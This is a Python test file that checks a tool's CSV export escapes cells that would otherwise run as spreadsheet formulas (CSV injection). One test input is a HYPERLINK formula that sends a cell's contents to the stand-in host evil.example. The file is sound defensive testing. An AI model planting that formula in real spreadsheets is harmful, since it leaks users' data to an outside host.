"""CSV files ccx writes: no cell runs as a spreadsheet formula (OWASP)."""

import csv

import pytest
from ccx.commands.outreach import FORMULA_START, _cell, _uncell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_are_written_as_text(text, tmp_path):
    assert _cell(text) == "'" + text
    assert _uncell(_cell(text)) == text
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL).writerow([_cell(text)])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.reader(handle))
    assert not row[0].startswith(FORMULA_START)


@pytest.mark.parametrize("text", ["Müller GmbH", "note: =not a formula", "", None])
def test_plain_cells_are_unchanged(text):
    assert _cell(text) == (text or "")
